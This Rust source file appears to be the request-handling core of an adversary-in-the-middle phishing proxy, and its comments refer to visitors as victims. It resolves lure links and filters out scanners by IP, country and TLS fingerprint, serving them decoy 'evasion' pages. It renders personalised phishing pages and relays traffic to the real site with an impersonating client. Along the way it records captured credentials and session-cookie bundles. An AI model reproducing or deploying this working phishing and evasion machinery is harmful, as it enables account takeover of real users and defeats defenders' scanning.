//! HTTP Entry Point (C12, §4.12). The one place every inbound request
//! passes through: resolves which proxy entry and campaign own the
//! request's Host header, runs the access/filter gate, drives the request
//! and response pipelines around one outbound call, and turns whatever the
//! campaign-flow state machine and the capture engine decided into a
//! single HTTP response.
//!
//! Framework-agnostic on purpose, matching [`crate::proxy::request_pipeline`]
//! and [`crate::proxy::response_pipeline`]: `server.rs` is the only place
//! that ever touches a `hyper::Request`/`hyper::Response`.

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tracing::warn;
use uuid::Uuid;

use crate::config::proxy_config::ProxyConfig;
use crate::models::campaign::Template;
use crate::models::domain::DomainKind;
use crate::models::request::RequestContext;
use crate::models::session::ProxySession;
use crate::metrics::EngineMetrics;
use crate::proxy::access_gate;
use crate::proxy::campaign_flow::{self, PageType};
use crate::proxy::capture::CaptureResult;
use crate::proxy::events::{EventContext, EventEmitter};
use crate::proxy::outbound_client;
use crate::proxy::request_pipeline;
use crate::proxy::response_pipeline;
use crate::storage::catalog::{
    CampaignCatalog, DomainCatalog, IdentifierService, Obfuscator, RenderContext, TemplateRenderer,
};
use crate::storage::fingerprint_store::FingerprintStore;
use crate::storage::geoip::GeoIp;
use crate::storage::rate_limit_store::RateLimitStore;
use crate::storage::session_store::SessionStore;
use crate::models::event::EventKind;

/// One compiled proxy entry (§4.5): its policy document, the engine-issued
/// id used for rate-limit/allow-list keying, and the start-url override for
/// a freshly created session's first request.
pub struct CompiledProxy {
    pub id: String,
    pub config: Arc<ProxyConfig>,
    pub start_url: Option<String>,
}

/// A raw inbound request, already read off the wire by `server.rs`.
pub struct InboundRequest {
    pub method: String,
    pub host: String,
    pub path: String,
    pub query: String,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
    pub remote_addr: SocketAddr,
}

/// The response `server.rs` writes back to the victim's connection.
pub struct EntryResponse {
    pub status: u16,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
}

impl EntryResponse {
    fn status_only(status: u16) -> Self {
        Self { status, headers: HashMap::new(), body: Vec::new() }
    }

    fn redirect(status: u16, location: String) -> Self {
        let mut headers = HashMap::new();
        headers.insert("location".to_string(), location);
        Self { status, headers, body: Vec::new() }
    }
}

pub struct HttpEntry {
    domains: Arc<dyn DomainCatalog>,
    campaigns: Arc<dyn CampaignCatalog>,
    identifiers: Arc<dyn IdentifierService>,
    renderer: Arc<dyn TemplateRenderer>,
    obfuscator: Option<Arc<dyn Obfuscator>>,
    sessions: Arc<SessionStore>,
    fingerprints: Arc<FingerprintStore>,
    rate_limits: Arc<RateLimitStore>,
    geoip: Arc<dyn GeoIp>,
    events: Arc<EventEmitter>,
    metrics: Arc<EngineMetrics>,
    proxies: HashMap<String, CompiledProxy>,
    session_cookie_name: String,
    allow_list_ttl: Duration,
}

impl HttpEntry {
    #[allow(clippy::too_many_arguments)]
    pub fn new(
        domains: Arc<dyn DomainCatalog>,
        campaigns: Arc<dyn CampaignCatalog>,
        identifiers: Arc<dyn IdentifierService>,
        renderer: Arc<dyn TemplateRenderer>,
        obfuscator: Option<Arc<dyn Obfuscator>>,
        sessions: Arc<SessionStore>,
        fingerprints: Arc<FingerprintStore>,
        rate_limits: Arc<RateLimitStore>,
        geoip: Arc<dyn GeoIp>,
        events: Arc<EventEmitter>,
        metrics: Arc<EngineMetrics>,
        proxies: HashMap<String, CompiledProxy>,
        session_cookie_name: String,
        allow_list_ttl: Duration,
    ) -> Self {
        Self {
            domains,
            renderer,
            campaigns,
            identifiers,
            obfuscator,
            sessions,
            fingerprints,
            rate_limits,
            geoip,
            events,
            metrics,
            proxies,
            session_cookie_name,
            allow_list_ttl,
        }
    }

    /// Processes one inbound request end-to-end and produces the response to
    /// write back to the victim.
    pub async fn handle(&self, req: InboundRequest) -> EntryResponse {
        self.metrics.record_request();

        let client_ip = RequestContext::resolve_client_ip(&req.headers, req.remote_addr.ip());
        let fingerprint = self.fingerprints.lookup(req.remote_addr);
        let ja4 = fingerprint.as_ref().map(|f| f.ja4.clone());
        let country = self.geoip.lookup_country(client_ip);
        let original_ua = req.headers.get("user-agent").cloned();

        let Some(compiled) = self.proxies.get(&req.host) else {
            return self.deny(EntryResponse::status_only(404));
        };

        let Some(domain) = self.domains.resolve(&req.host).await else {
            return self.deny(EntryResponse::status_only(404));
        };
        if domain.kind != DomainKind::Proxy {
            return self.deny(EntryResponse::status_only(404));
        }

        let Some(host_cfg) = compiled.config.host(&domain.target_domain) else {
            warn!(host = %req.host, upstream = %domain.target_domain, "no host config for resolved domain");
            return self.deny(EntryResponse::status_only(404));
        };

        let query_map = parse_query(&req.query);

        let (resolved_path, forward) = access_gate::apply_url_rewrites(&self.sessions, host_cfg, &req.path, &query_map);
        if let Some(fw) = forward {
            self.sessions.store_url_mapping(fw.redirect_to.clone(), fw.mapping_path.clone());
            return EntryResponse::redirect(302, fw.redirect_to);
        }

        let Some((campaign, template)) = self.campaigns.resolve_for_domain(domain.id).await else {
            return self.deny(EntryResponse::status_only(404));
        };
        if !campaign.active {
            return self.deny(EntryResponse::status_only(404));
        }

        let identifier = self.identifiers.extract(&query_map, &template);
        let has_lure = identifier.is_some();

        let access = host_cfg.effective_access(compiled.config.global_access.as_ref());
        if let Some(on_deny) = access_gate::check_access_mode(access, client_ip, &compiled.id, has_lure, &self.rate_limits) {
            self.metrics.record_denied();
            return match on_deny {
                crate::config::proxy_config::OnDeny::Status(status) => self.deny(EntryResponse::status_only(status)),
                crate::config::proxy_config::OnDeny::Redirect(location) => EntryResponse::redirect(302, location),
            };
        }

        if has_lure {
            access_gate::admit_to_allow_list(&self.rate_limits, client_ip, &compiled.id, self.allow_list_ttl);
        }

        let original_url = format!("https://{}{}{}", req.host, req.path, if req.query.is_empty() { String::new() } else { format!("?{}", req.query) });

        if !access_gate::check_filter(&campaign, client_ip, ja4.as_deref(), self.geoip.as_ref()) {
            self.metrics.record_denied();
            let (cr_id, r_id) = identifier.as_ref().map(|i| (i.campaign_recipient_id, i.recipient_id)).unwrap_or((Uuid::nil(), Uuid::nil()));
            return self.deny_with_campaign_page(&campaign, &template, cr_id, r_id, &original_url, &req.host, 403).await;
        }

        let event_ctx = EventContext { client_ip: Some(client_ip.to_string().as_str()), user_agent: original_ua.as_deref(), metadata: json!({}) };

        if let Some(ident) = &identifier {
            if campaign_flow::should_serve_evasion(&campaign, &template, &query_map, true) {
                self.events
                    .emit_page_visited(&campaign, ident.campaign_recipient_id, ident.recipient_id, EventKind::EvasionPageVisited, &event_ctx)
                    .await;
                let next = campaign_flow::next_page(campaign_flow::PageType::Evasion, &template);
                let state_param = crate::crypto::state_cipher::encrypt(next.as_str(), campaign.id).unwrap_or_default();
                return self
                    .render_page_via_template(
                        &template.evasion_page,
                        &campaign,
                        &template,
                        ident.campaign_recipient_id,
                        ident.recipient_id,
                        &state_param,
                        &original_url,
                        &req.host,
                    )
                    .await;
            }
            if campaign_flow::should_serve_deny(&query_map, &template, campaign.id) {
                self.events
                    .emit_page_visited(&campaign, ident.campaign_recipient_id, ident.recipient_id, EventKind::DenyPageVisited, &event_ctx)
                    .await;
                return self
                    .deny_with_campaign_page(&campaign, &template, ident.campaign_recipient_id, ident.recipient_id, &original_url, &req.host, 403)
                    .await;
            }
        }

        let response_rule = find_response_rule(&host_cfg.rules.response, &resolved_path);
        if let Some(rule) = response_rule {
            if !rule.forward {
                return build_rule_response(rule);
            }
        }

        let session = match self.resolve_session(&req, &identifier, &campaign, &domain, &template, compiled.config.as_ref()) {
            Some(session) => session,
            None => return self.deny(EntryResponse::status_only(404)),
        };

        let campaign_recipient_id = session.campaign_recipient_id;
        let recipient_id = session.recipient_id;
        let current_page = campaign_flow::infer_current_page(&query_map, &template, campaign.id);

        let had_session_cookie = req
            .headers
            .get("cookie")
            .map(|c| c.split(';').any(|p| p.split_once('=').map(|(k, _)| k.trim() == self.session_cookie_name).unwrap_or(false)))
            .unwrap_or(false);

        let start_url = if !had_session_cookie && identifier.is_some() { compiled.start_url.as_deref() } else { None };

        let request_outcome = request_pipeline::run(
            &session,
            host_cfg,
            Some(&template),
            &self.session_cookie_name,
            &req.method,
            &resolved_path,
            &req.query,
            req.headers.clone(),
            req.body,
            start_url,
        )
        .await;

        self.emit_captures(&campaign, campaign_recipient_id, recipient_id, &request_outcome.captures, &event_ctx).await;
        let request_side_completed = request_outcome.captures.iter().any(|c| c.completes_session);

        let accept_language = req.headers.get("accept-language").map(String::as_str);
        let client = match outbound_client::build_client(&compiled.config.impersonate, original_ua.as_deref(), accept_language, compiled.config.proxy.as_deref()) {
            Ok(client) => client,
            Err(e) => {
                warn!(error = %e, "failed to build outbound client");
                return self.deny(EntryResponse::status_only(502));
            }
        };

        let method = match reqwest_impersonate::Method::from_bytes(request_outcome.prepared.method.as_bytes()) {
            Ok(m) => m,
            Err(_) => return self.deny(EntryResponse::status_only(502)),
        };

        let mut builder = client.request(method, request_outcome.prepared.url());
        for (name, value) in &request_outcome.prepared.headers {
            builder = builder.header(name, value);
        }
        if !request_outcome.prepared.body.is_empty() {
            builder = builder.body(request_outcome.prepared.body.clone());
        }

        let upstream_resp = match builder.send().await {
            Ok(resp) => resp,
            Err(e) => {
                warn!(error = %e, upstream = %host_cfg.to, "upstream request failed");
                return self.deny(EntryResponse::status_only(502));
            }
        };

        let status = upstream_resp.status().as_u16();
        let resp_headers = collect_response_headers(&upstream_resp);
        let resp_body = match upstream_resp.bytes().await {
            Ok(b) => b.to_vec(),
            Err(e) => {
                warn!(error = %e, "failed to read upstream response body");
                return self.deny(EntryResponse::status_only(502));
            }
        };

        let session_cookie = if !had_session_cookie {
            Some((self.session_cookie_name.as_str(), session.id.to_string()))
        } else {
            None
        };

        let response_outcome = response_pipeline::run(
            &session,
            host_cfg,
            Some(&campaign),
            Some(&template),
            campaign.id,
            campaign_recipient_id,
            current_page,
            &req.host,
            &req.method,
            &resolved_path,
            status,
            resp_headers,
            resp_body,
            self.obfuscator.as_deref(),
            session_cookie,
            request_side_completed,
            req.headers.get("cookie").map(String::as_str),
        )
        .await;

        self.emit_captures(&campaign, campaign_recipient_id, recipient_id, &response_outcome.captures, &event_ctx).await;
        self.emit_page_event(&campaign, campaign_recipient_id, recipient_id, current_page, &event_ctx).await;

        let mut prepared = response_outcome.prepared;
        if let Some(rule) = response_rule {
            if rule.forward {
                prepared.status = rule.status;
                for (name, value) in &rule.headers {
                    prepared.headers.insert(name.to_lowercase(), value.clone());
                }
                if !rule.body.is_empty() {
                    prepared.body = rule.body.clone().into_bytes();
                    prepared.headers.insert("content-length".to_string(), prepared.body.len().to_string());
                }
            }
        }

        EntryResponse { status: prepared.status, headers: prepared.headers, body: prepared.body }
    }

    fn resolve_session(
        &self,
        req: &InboundRequest,
        identifier: &Option<crate::storage::catalog::ExtractedIdentifier>,
        campaign: &crate::models::campaign::Campaign,
        domain: &crate::models::domain::Domain,
        _template: &Template,
        proxy_config: &ProxyConfig,
    ) -> Option<Arc<ProxySession>> {
        if let Some(cookie_session_id) = read_session_cookie(&req.headers, &self.session_cookie_name) {
            if let Some(session) = self.sessions.get_session(cookie_session_id) {
                return Some(session);
            }
        }

        let ident = identifier.as_ref()?;
        if let Some(session) = self.sessions.get_session_by_recipient(ident.campaign_recipient_id) {
            return Some(session);
        }

        let original_ua = req.headers.get("user-agent").cloned();
        let session = Arc::new(ProxySession::new(
            campaign.id,
            ident.campaign_recipient_id,
            ident.recipient_id,
            req.host.clone(),
            domain.target_domain.clone(),
            original_ua,
            proxy_config,
        ));
        self.sessions.store_session(session.clone());
        self.metrics.record_session_created();
        Some(session)
    }

    async fn emit_captures(
        &self,
        campaign: &crate::models::campaign::Campaign,
        campaign_recipient_id: Uuid,
        recipient_id: Uuid,
        captures: &[CaptureResult],
        ctx: &EventContext<'_>,
    ) {
        for capture in captures {
            self.metrics.record_capture();
            // §4.9: non-cookie captures emit an immediate event; cookie
            // captures only emit once, bundled, when `is_complete` flips.
            // The synthesized `cookie_bundle` result (response_pipeline's
            // `run_captures`) is itself a cookie-engine result but is the
            // bundle being emitted, not a single cookie capture, so it is
            // the one exception that still emits here.
            if capture.is_cookie && capture.name != "cookie_bundle" {
                continue;
            }
            let data = json!({ "capture": capture.name, "value": capture.value });
            self.events.emit_submitted_data(campaign, campaign_recipient_id, recipient_id, data, ctx).await;
            self.metrics.record_event_emitted();
        }
    }

    async fn emit_page_event(
        &self,
        campaign: &crate::models::campaign::Campaign,
        campaign_recipient_id: Uuid,
        recipient_id: Uuid,
        current_page: PageType,
        ctx: &EventContext<'_>,
    ) {
        let kind = match current_page {
            PageType::Before => EventKind::BeforePageVisited,
            PageType::Landing => EventKind::PageVisited,
            PageType::After => EventKind::AfterPageVisited,
            PageType::Evasion | PageType::Deny | PageType::Done => return,
        };
        self.events.emit_page_visited(campaign, campaign_recipient_id, recipient_id, kind, ctx).await;
        self.metrics.record_event_emitted();
    }

    /// Renders an evasion/deny/landing page through the Template Service
    /// (§9 `render-phishing-page`), looking up the recipient so `{{email}}`-
    /// style personalization resolves the way the teacher's template engine
    /// would for any other campaign page.
    #[allow(clippy::too_many_arguments)]
    async fn render_page_via_template(
        &self,
        page: &Option<crate::models::campaign::PageRef>,
        campaign: &crate::models::campaign::Campaign,
        template: &Template,
        campaign_recipient_id: Uuid,
        recipient_id: Uuid,
        state_param: &str,
        original_url: &str,
        request_host: &str,
    ) -> EntryResponse {
        match page {
            Some(page_ref) => {
                let recipient = self.campaigns.load_recipient(recipient_id).await;
                let ctx = RenderContext {
                    domain: request_host,
                    campaign_recipient_id,
                    recipient: recipient.as_ref(),
                    html: &page_ref.html,
                    template,
                    state_param,
                    original_url,
                    campaign,
                };
                let body = self.renderer.render_phishing_page(ctx).await;
                let mut headers = HashMap::new();
                headers.insert("content-type".to_string(), "text/html; charset=utf-8".to_string());
                EntryResponse { status: 200, headers, body }
            }
            None => self.deny(EntryResponse::status_only(404)),
        }
    }

    #[allow(clippy::too_many_arguments)]
    async fn deny_with_campaign_page(
        &self,
        campaign: &crate::models::campaign::Campaign,
        template: &Template,
        campaign_recipient_id: Uuid,
        recipient_id: Uuid,
        original_url: &str,
        request_host: &str,
        fallback_status: u16,
    ) -> EntryResponse {
        if campaign.deny_page.is_some() {
            let state_param = crate::crypto::state_cipher::encrypt("deny", campaign.id).unwrap_or_default();
            self.render_page_via_template(
                &campaign.deny_page,
                campaign,
                template,
                campaign_recipient_id,
                recipient_id,
                &state_param,
                original_url,
                request_host,
            )
            .await
        } else {
            self.deny(EntryResponse::status_only(fallback_status))
        }
    }

    fn deny(&self, response: EntryResponse) -> EntryResponse {
        self.metrics.record_denied();
        response
    }
}

fn parse_query(query: &str) -> HashMap<String, String> {
    url::form_urlencoded::parse(query.as_bytes()).into_owned().collect()
}

fn read_session_cookie(headers: &HashMap<String, String>, cookie_name: &str) -> Option<Uuid> {
    let raw = headers.get("cookie")?;
    raw.split(';').find_map(|pair| {
        let (name, value) = pair.split_once('=')?;
        if name.trim() == cookie_name {
            Uuid::parse_str(value.trim()).ok()
        } else {
            None
        }
    })
}

/// First rule (host rules already carry global rules appended, §4.4) whose
/// `path` matches, or the first rule with no `path` constraint at all.
fn find_response_rule<'a>(
    rules: &'a [crate::config::proxy_config::ResponseRule],
    path: &str,
) -> Option<&'a crate::config::proxy_config::ResponseRule> {
    rules.iter().find(|r| r.path.as_ref().map(|re| re.is_match(path)).unwrap_or(true))
}

/// Builds the response straight from an operator-authored `response` rule
/// with `forward: false` (§4.4): upstream is never contacted, the rule's
/// `status`/`headers`/`body` are served verbatim.
fn build_rule_response(rule: &crate::config::proxy_config::ResponseRule) -> EntryResponse {
    let body = rule.body.clone().into_bytes();
    let mut headers: HashMap<String, String> = rule.headers.iter().map(|(k, v)| (k.to_lowercase(), v.clone())).collect();
    headers.entry("content-length".to_string()).or_insert_with(|| body.len().to_string());
    EntryResponse { status: rule.status, headers, body }
}

fn collect_response_headers(resp: &reqwest_impersonate::Response) -> HashMap<String, String> {
    let mut headers: HashMap<String, String> = HashMap::new();
    for (name, value) in resp.headers().iter() {
        let name = name.as_str().to_lowercase();
        let Ok(value) = value.to_str() else { continue };
        headers
            .entry(name)
            .and_modify(|existing| {
                existing.push('\n');
                existing.push_str(value);
            })
            .or_insert_with(|| value.to_string());
    }
    headers
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_query_decodes_pairs() {
        let map = parse_query("a=1&b=hello%20world");
        assert_eq!(map.get("a"), Some(&"1".to_string()));
        assert_eq!(map.get("b"), Some(&"hello world".to_string()));
    }

    #[test]
    fn read_session_cookie_finds_named_cookie_among_others() {
        let mut headers = HashMap::new();
        headers.insert("cookie".to_string(), "other=1; ps=not-a-uuid".to_string());
        assert_eq!(read_session_cookie(&headers, "ps"), None);

        let id = Uuid::new_v4();
        headers.insert("cookie".to_string(), format!("other=1; ps={id}"));
        assert_eq!(read_session_cookie(&headers, "ps"), Some(id));
    }

    #[test]
    fn response_rule_with_no_path_matches_anything() {
        let rules = vec![crate::config::proxy_config::ResponseRule {
            path: None,
            status: 200,
            headers: HashMap::new(),
            body: "ok".to_string(),
            forward: false,
        }];
        assert!(find_response_rule(&rules, "/anything").is_some());
    }
}
